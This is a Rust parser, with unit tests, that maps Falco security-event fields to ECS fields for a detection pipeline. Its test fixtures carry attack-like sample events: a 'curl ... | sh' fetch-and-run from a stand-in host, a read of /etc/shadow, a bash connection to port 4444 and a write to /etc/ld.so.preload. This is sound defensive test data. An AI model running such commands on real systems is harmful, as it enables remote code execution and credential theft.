//! Falco's field vocabulary (`falco.events`): records written with Falco's own field names
//! (`proc.*`, `evt.*`, `user.*`, `fd.*`, `container.*`, `k8s.*`), by Falco itself or by tools
//! that export events in its terms (falcosidekick outputs, Falco plugins, capture converters,
//! custom pipelines).
//!
//! Three shapes, all mapped the same way:
//!
//! * a Falco alert's `output_fields` (the `falco` parser maps those through [`seen`] too);
//! * a flat record with dotted keys: `{"evt.type": "execve", "proc.name": "sh", ...}`;
//! * nested objects: `{"evt": {"type": "execve"}, "proc": {"name": "sh"}, ...}`, or a record
//!   whose `output_fields` object holds the fields without an alert around it.
//!
//! | Falco field | our field |
//! |---|---|
//! | `evt.type` (`execve`, `open*`, `connect`, `procexit`, ...) | `event.action`, and `event.category`/`event.type` ([`kind`]) |
//! | `proc.exepath` (else `proc.exe` when it is a path) | `process.executable` |
//! | `proc.name`, `proc.cmdline` (else `proc.name` + ` ` + `proc.args`), `proc.pid`, `proc.cwd` | `process.name`, `process.command_line`, `process.pid`, `process.working_directory` |
//! | `proc.pexepath` (else `proc.pexe`), `proc.pname`, `proc.pcmdline`, `proc.ppid` | `process.parent.*` |
//! | `user.name`, `user.uid` | `user.name`, `user.id` |
//! | `container.id`, `container.name` (not Falco's `host`), `container.image.repository`, `container.image.tag` (or `container.image`) | `container.*` |
//! | `k8s.ns.name`, `k8s.pod.name`, `k8s.pod.uid` | `kubernetes.namespace`, `kubernetes.pod.name`, `kubernetes.pod.uid` |
//! | `fs.path.name`, `fd.name`, `evt.arg.name|path|pathname` (file events) | `file.path` |
//! | `fd.sip`/`fd.sport` (server), `fd.cip`/`fd.cport` (client), `fd.l4proto` | `destination.*`, `source.*`, `network.transport` |
//! | `evt.time` / `evt.rawtime` (ns), `evt.time.iso8601`, `evt.datetime`, else a `time` key | `@timestamp` |
//! | `evt.hostname` (else `hostname`) | `host.name` |
//!
//! Every field is also kept as sent under `falco.fields` (dotted keys, as in an alert's
//! `output_fields`). Detected by a Falco `proc.` field together with an `evt.` field, flat or
//! nested (or inside `output_fields`).

use crowsnest_model::{ecs, format_timestamp, parse_timestamp, Event};
use serde_json::{json, Map, Value};

use crate::error::FieldError;
use crate::registry::{Context, Parser, Record};
use crate::sensor::{int, text, Kind, Proc, Seen};
use crate::{finish, generic, Decoded, LineError};

/// The parser of records in Falco's field vocabulary.
#[derive(Debug)]
pub struct FalcoFields;

/// `event.dataset` of these records.
const DATASET: &str = "falco.events";

impl Parser for FalcoFields {
    fn name(&self) -> &'static str {
        DATASET
    }

    fn aliases(&self) -> &'static [&'static str] {
        &["falco-fields"]
    }

    fn detect(&self, object: &Map<String, Value>) -> bool {
        let has = |map: &Map<String, Value>, class: &str| {
            map.get(class).is_some_and(Value::is_object)
                || map.keys().any(|k| {
                    k.len() > class.len()
                        && k.starts_with(class)
                        && k[class.len()..].starts_with('.')
                })
        };
        let fits = |map: &Map<String, Value>| has(map, "proc") && has(map, "evt");
        fits(object)
            || object
                .get("output_fields")
                .and_then(Value::as_object)
                .is_some_and(fits)
    }

    fn parse(&self, record: Record<'_>, cx: &Context<'_>, out: &mut Decoded) {
        let Record::Json { text, object } = record else {
            let reason = "expected a JSON object of Falco fields (`proc.*`, `evt.*`, ...)";
            return out.errors.push(LineError::new(cx.line, reason));
        };
        let fields = match object.get("output_fields") {
            Some(Value::Object(inner)) => flatten(inner),
            _ => flatten(&object),
        };
        if !fields
            .keys()
            .any(|k| k.starts_with("proc.") || k.starts_with("evt."))
        {
            let reason = "expected Falco fields (`proc.*`, `evt.*`); found none";
            return out
                .errors
                .push(FieldError::field("proc", reason).at(cx.line));
        }
        let mut event = Event::new();
        if let Some(time) = time(&fields).or_else(|| {
            generic::TIME_KEYS
                .iter()
                .find_map(|key| object.get(*key).and_then(parse_timestamp))
        }) {
            event.set(ecs::TIMESTAMP, Value::String(format_timestamp(time)));
        }
        event.set(ecs::EVENT_MODULE, json!("falco"));
        event.set(ecs::EVENT_DATASET, json!(DATASET));
        if let Some(Value::String(output)) = object.get("output") {
            event.set(ecs::MESSAGE, json!(output));
        }
        let mut seen = seen(&fields);
        if seen.host.is_none() {
            seen.host = crate::sensor::text(object.get("hostname"));
        }
        let evt_type = fields.get("evt.type").and_then(Value::as_str);
        seen.apply(&mut event, kind(&fields), evt_type);
        event.set("falco.fields", Value::Object(fields));
        out.events.push(finish(event, text, cx.limits));
    }
}

/// Flattens nested objects into Falco's dotted names (`{"proc": {"name": "sh"}}` →
/// `proc.name`); dotted keys stay as they are, arrays and scalars are values.
pub(crate) fn flatten(object: &Map<String, Value>) -> Map<String, Value> {
    fn walk(prefix: &str, object: &Map<String, Value>, out: &mut Map<String, Value>) {
        for (key, value) in object {
            let name = if prefix.is_empty() {
                key.clone()
            } else {
                format!("{prefix}.{key}")
            };
            match value {
                Value::Object(inner) if !inner.is_empty() => walk(&name, inner, out),
                _ => {
                    out.insert(name, value.clone());
                }
            }
        }
    }
    let mut out = Map::new();
    walk("", object, &mut out);
    out
}

fn get<'a>(fields: &'a Map<String, Value>, name: &str) -> Option<&'a Value> {
    fields.get(name).filter(|v| !v.is_null())
}

fn string(fields: &Map<String, Value>, name: &str) -> Option<String> {
    text(get(fields, name)).filter(|s| s != "<NA>")
}

/// A path-like value (`proc.exe` is argv[0], a path only when the program was run by path).
fn path(fields: &Map<String, Value>, name: &str) -> Option<String> {
    string(fields, name).filter(|s| s.starts_with('/'))
}

/// The ECS kind of a Falco event, from `evt.type` (and open flags).
pub(crate) fn kind(fields: &Map<String, Value>) -> Kind {
    let Some(evt_type) = fields.get("evt.type").and_then(Value::as_str) else {
        return Kind::Other;
    };
    match evt_type {
        "execve" | "execveat" => Kind::Exec,
        "procexit" => Kind::Exit,
        "open" | "openat" | "openat2" | "open_by_handle_at" => {
            let writes = fields
                .get("evt.is_open_write")
                .is_some_and(|v| v == &json!(true) || v == &json!("true"))
                || fields
                    .get("evt.arg.flags")
                    .and_then(Value::as_str)
                    .is_some_and(crate::sensor::opens_for_writing);
            Kind::file(writes)
        }
        "creat" | "unlink" | "unlinkat" | "rename" | "renameat" | "renameat2" | "mkdir"
        | "mkdirat" | "rmdir" | "chmod" | "fchmod" | "fchmodat" | "symlink" | "symlinkat"
        | "link" | "linkat" | "truncate" | "ftruncate" => Kind::FileChange,
        "connect" | "accept" | "accept4" => Kind::Connect,
        _ => Kind::Other,
    }
}

/// What Falco's fields say, in our terms.
pub(crate) fn seen(fields: &Map<String, Value>) -> Seen {
    let process = Proc {
        executable: path(fields, "proc.exepath").or_else(|| path(fields, "proc.exe")),
        name: string(fields, "proc.name"),
        command_line: string(fields, "proc.cmdline").or_else(|| {
            let name = string(fields, "proc.name")?;
            let args = string(fields, "proc.args")?;
            Some(format!("{name} {args}"))
        }),
        args: None,
        pid: int(get(fields, "proc.pid")),
        working_directory: string(fields, "proc.cwd"),
    };
    let parent = Proc {
        executable: path(fields, "proc.pexepath").or_else(|| path(fields, "proc.pexe")),
        name: string(fields, "proc.pname"),
        command_line: string(fields, "proc.pcmdline"),
        args: None,
        pid: int(get(fields, "proc.ppid")),
        working_directory: None,
    };
    let in_host = |s: &String| s != "host" && !s.is_empty();
    let kind = kind(fields);
    let file_path = match kind {
        Kind::FileAccess | Kind::FileChange => [
            "fs.path.name",
            "fd.name",
            "evt.arg.name",
            "evt.arg.pathname",
            "evt.arg.path",
        ]
        .iter()
        .find_map(|name| string(fields, name)),
        // Without `evt.type`, `fd.name` is a file when Falco says so (or it looks like one).
        _ => string(fields, "fd.name").filter(|name| {
            matches!(
                fields.get("fd.type").and_then(Value::as_str),
                Some("file" | "directory") | None
            ) && name.starts_with('/')
                && kind == Kind::Other
        }),
    };
    let (mut source_ip, mut source_port, mut destination_ip, mut destination_port) =
        (None, None, None, None);
    if kind == Kind::Connect || fields.contains_key("fd.sip") || fields.contains_key("fd.rip") {
        source_ip = string(fields, "fd.cip").or_else(|| string(fields, "fd.lip"));
        source_port = int(get(fields, "fd.cport")).or_else(|| int(get(fields, "fd.lport")));
        destination_ip = string(fields, "fd.sip").or_else(|| string(fields, "fd.rip"));
        destination_port = int(get(fields, "fd.sport")).or_else(|| int(get(fields, "fd.rport")));
    }
    let image = string(fields, "container.image.repository")
        .or_else(|| string(fields, "container.image").filter(in_host));
    Seen {
        process,
        parent,
        user_id: string(fields, "user.uid"),
        user_name: string(fields, "user.name"),
        container_id: string(fields, "container.id").filter(in_host),
        container_name: string(fields, "container.name").filter(in_host),
        image_tag: if image.is_some() {
            string(fields, "container.image.tag")
        } else {
            None
        },
        image,
        namespace: string(fields, "k8s.ns.name"),
        pod_name: string(fields, "k8s.pod.name"),
        pod_uid: string(fields, "k8s.pod.uid"),
        host: string(fields, "evt.hostname"),
        file_path,
        source_ip,
        source_port,
        destination_ip,
        destination_port,
        transport: string(fields, "fd.l4proto"),
    }
}

/// The event time Falco's fields carry.
fn time(fields: &Map<String, Value>) -> Option<chrono::DateTime<chrono::Utc>> {
    [
        "evt.rawtime",
        "evt.time",
        "evt.time.iso8601",
        "evt.datetime",
    ]
    .iter()
    .filter_map(|name| fields.get(*name))
    .find_map(|value| match value {
        // Falco renders `evt.time` as a time of day in text outputs: only a number, an
        // epoch string or a full date is a time.
        Value::String(s) if s.bytes().all(|b| b.is_ascii_digit()) => s
            .parse::<i64>()
            .ok()
            .and_then(|n| parse_timestamp(&json!(n))),
        other => parse_timestamp(other),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::registry::detect;

    use crate::registry::decode_detected as decode;

    #[test]
    fn flat_and_nested_records_map_alike() {
        let flat = r#"{"evt.time":1714557600123456789,"evt.type":"execve","evt.dir":"<","proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -s http://x/a.sh","proc.pid":42,"proc.ppid":41,"proc.pname":"sh","proc.pexepath":"/bin/sh","proc.pcmdline":"sh -c curl -s http://x/a.sh | sh","user.name":"root","user.uid":0,"container.id":"0123456789ab","container.image.repository":"nginx","container.image.tag":"1.25","k8s.ns.name":"prod","k8s.pod.name":"web-1"}"#;
        let nested = r#"{"evt":{"time":1714557600123456789,"type":"execve","dir":"<"},"proc":{"name":"curl","exepath":"/usr/bin/curl","cmdline":"curl -s http://x/a.sh","pid":42,"ppid":41,"pname":"sh","pexepath":"/bin/sh","pcmdline":"sh -c curl -s http://x/a.sh | sh"},"user":{"name":"root","uid":0},"container":{"id":"0123456789ab","image":{"repository":"nginx","tag":"1.25"}},"k8s":{"ns":{"name":"prod"},"pod":{"name":"web-1"}}}"#;
        for line in [flat, nested] {
            let object: Map<String, Value> = serde_json::from_str(line).expect("JSON");
            assert_eq!(detect(&object).name(), "falco.events");
            let decoded = decode(line);
            assert!(decoded.errors.is_empty(), "{:?}", decoded.errors);
            let event = &decoded.events[0];
            assert_eq!(event.get("event.category"), Some(&json!(["process"])));
            assert_eq!(event.get("event.type"), Some(&json!(["start"])));
            assert_eq!(event.get_str("event.action"), Some("execve"));
            assert_eq!(event.get_str("process.executable"), Some("/usr/bin/curl"));
            assert_eq!(
                event.get_str("process.parent.command_line"),
                Some("sh -c curl -s http://x/a.sh | sh")
            );
            assert_eq!(event.get_str("process.parent.executable"), Some("/bin/sh"));
            assert_eq!(event.get("process.pid"), Some(&json!(42)));
            assert_eq!(event.get_str("user.id"), Some("0"));
            assert_eq!(event.get_str("container.image.name"), Some("nginx"));
            assert_eq!(event.get_str("kubernetes.pod.name"), Some("web-1"));
            assert_eq!(
                event.get_str("@timestamp"),
                Some("2024-05-01T10:00:00.123456Z")
            );
        }
    }

    #[test]
    fn files_connections_and_the_host_container() {
        let open = decode(
            r#"{"evt.type":"openat","evt.arg.flags":"O_RDONLY","fd.name":"/etc/shadow","proc.name":"cat","proc.cmdline":"cat /etc/shadow","container.id":"host"}"#,
        );
        let event = &open.events[0];
        assert_eq!(event.get("event.category"), Some(&json!(["file"])));
        assert_eq!(event.get("event.type"), Some(&json!(["access"])));
        assert_eq!(event.get_str("file.path"), Some("/etc/shadow"));
        assert_eq!(
            event.get("container.id"),
            None,
            "Falco's `host` is no container"
        );
        let connect = decode(
            r#"{"evt.type":"connect","fd.name":"10.0.0.5:40000->1.2.3.4:4444","fd.cip":"10.0.0.5","fd.cport":40000,"fd.sip":"1.2.3.4","fd.sport":4444,"fd.l4proto":"tcp","proc.name":"bash"}"#,
        );
        let event = &connect.events[0];
        assert_eq!(event.get("event.category"), Some(&json!(["network"])));
        assert_eq!(event.get_str("destination.ip"), Some("1.2.3.4"));
        assert_eq!(event.get("destination.port"), Some(&json!(4444)));
        assert_eq!(event.get("file.path"), None);
        let write = decode(
            r#"{"evt.type":"openat","evt.arg.flags":"O_WRONLY|O_CREAT","fd.name":"/etc/ld.so.preload","proc.name":"sh"}"#,
        );
        assert_eq!(write.events[0].get("event.type"), Some(&json!(["change"])));
    }

    #[test]
    fn other_records_are_not_claimed() {
        for line in [
            r#"{"process":{"name":"sh"},"event":{"type":"start"}}"#,
            r#"{"proc":"x","evt":"y"}"#,
            r#"{"proc.name":"sh"}"#,
        ] {
            let object: Map<String, Value> = serde_json::from_str(line).expect("JSON");
            assert_ne!(detect(&object).name(), "falco.events", "{line}");
        }
    }
}
